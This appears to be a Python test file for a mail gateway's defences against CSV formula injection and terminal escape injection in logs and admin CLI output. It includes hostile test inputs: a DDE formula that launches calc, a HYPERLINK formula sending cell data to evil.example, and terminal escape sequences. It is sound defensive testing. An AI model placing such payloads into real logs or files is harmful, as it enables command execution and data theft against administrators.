"""
Attack: a client puts a spreadsheet formula or terminal escape sequences in
what the gateway logs (HELO name, Subject, addresses, command lines). An
admin who opens the CSV logs in a spreadsheet must not run the formula; an
admin who runs `exgateway track` or `exgateway queue messages` must not have
their terminal driven by the sender.
"""

import csv

import pytest
from twisted.internet.task import Clock

from gateway.admin.cli import main
from gateway.admin.table import print_table, printable
from gateway.config import default_config_path
from gateway.envelope import Envelope, Recipient
from gateway.logs.protocol import ProtocolLog, SessionLog
from gateway.logs.rolling import csv_field, csv_line, neutralise, restore
from gateway.logs.tracking import FIELDS, TrackingLog

FORMULA_HELO = "=cmd|' /C calc'!A0"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\u202eevil"


def _tracking_rows(directory):
    (path,) = directory.glob("MSGTRK*.LOG")
    text = path.read_text()
    return list(csv.DictReader([line for line in text.splitlines() if not line.startswith("#")], fieldnames=FIELDS))


def _log_event(directory, subject=FORMULA_HELO):
    clock = Clock()
    clock.advance(1_795_000_000)
    env = Envelope("7", 7, "<7@x>", "-2+3@evil.example", (Recipient("a@corp.example"),), 0.0, 10, client_ip="10.1.2.3",
                   helo=FORMULA_HELO, connector="EXSERVER\\Default Frontend", subject=subject)
    log = TrackingLog(directory, clock, "mail.corp.example")
    log.event("RECEIVE", "SMTP", env, ["a@corp.example"], server_ip="127.0.0.1")
    log.close()


def test_formulas_in_the_tracking_log_are_text_to_a_spreadsheet(tmp_path):
    _log_event(tmp_path, subject="@SUM(1+1)*cmd|' /C calc'!A0")
    (row,) = _tracking_rows(tmp_path)
    assert row["client-hostname"] == "'" + FORMULA_HELO
    assert row["message-subject"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["sender-address"] == row["return-path"] == "'-2+3@evil.example"
    assert row["event-id"] == "RECEIVE" and row["client-ip"] == "10.1.2.3"


def test_track_gives_back_what_the_client_sent(tmp_path, capsys):
    """The neutralising quote is the log file's business: `exgateway track` shows and matches the value itself."""
    cfg = tmp_path / "gw.toml"
    cfg.write_text(default_config_path().read_text().replace('var_dir = "var"', f'var_dir = "{tmp_path}/var"'))
    from gateway.config import load_config

    _log_event(load_config(cfg).message_tracking.directory)
    assert main(["--config", str(cfg), "track", "--sender=-2+3@evil.example", "--list"]) == 0
    out = capsys.readouterr().out
    assert f"client-hostname           : {FORMULA_HELO}\n" in out


def test_formulas_in_the_protocol_log_are_neutralised(tmp_path):
    clock = Clock()
    clock.advance(1_795_000_000)
    plog = ProtocolLog(tmp_path, "RECV", clock)
    session = SessionLog(plog, "EXSERVER\\Default Frontend", "08DE0001", "10.0.0.1:25", "10.1.2.3:40000")
    session.event("+")
    session.event("<", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")
    session.event("-")
    plog.close()
    (path,) = tmp_path.glob("RECV*.LOG")
    rows = list(csv.reader(line for line in path.read_text().splitlines() if not line.startswith("#")))
    assert [r[6] for r in rows] == ["+", "<", "-"]  # Exchange's event markers stay as Exchange writes them
    assert rows[1][7] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@a", "\tx", "'=1", "''+x", "'", "'a", "a=b", "", "plain", "-"])
def test_neutralise_then_restore_gives_the_value_back(value):
    assert restore(neutralise(value)) == value
    assert neutralise(value)[:1] not in ("=", "+", "-", "@", "\t")
    assert next(csv.reader([csv_line((value, "x"))])) == [neutralise(value), "x"]
    assert csv_field(value) == csv_line((value,))


def test_cli_tables_show_control_characters_as_escapes(capsys):
    print_table(("Identity", "Subject"), [("1", ESCAPES), ("2", "line\r\nbreak")])
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out and "\r" not in out
    assert out.splitlines()[2] == "1         \\x1b]0;owned\\x07\\x1b[2J\\u202eevil"
    assert out.splitlines()[3] == "2         line\\x0d\\x0abreak"
    assert printable("café ünïcode") == "café ünïcode"


def test_track_list_escapes_what_the_client_sent(tmp_path, capsys):
    cfg = tmp_path / "gw.toml"
    cfg.write_text(default_config_path().read_text().replace('var_dir = "var"', f'var_dir = "{tmp_path}/var"'))
    from gateway.config import load_config

    _log_event(load_config(cfg).message_tracking.directory, subject=ESCAPES)
    assert main(["--config", str(cfg), "track", "--list"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "message-subject           : \\x1b]0;owned\\x07\\x1b[2J\\u202eevil\n" in out
    assert main(["--config", str(cfg), "track"]) == 0
    assert "\x1b" not in capsys.readouterr().out
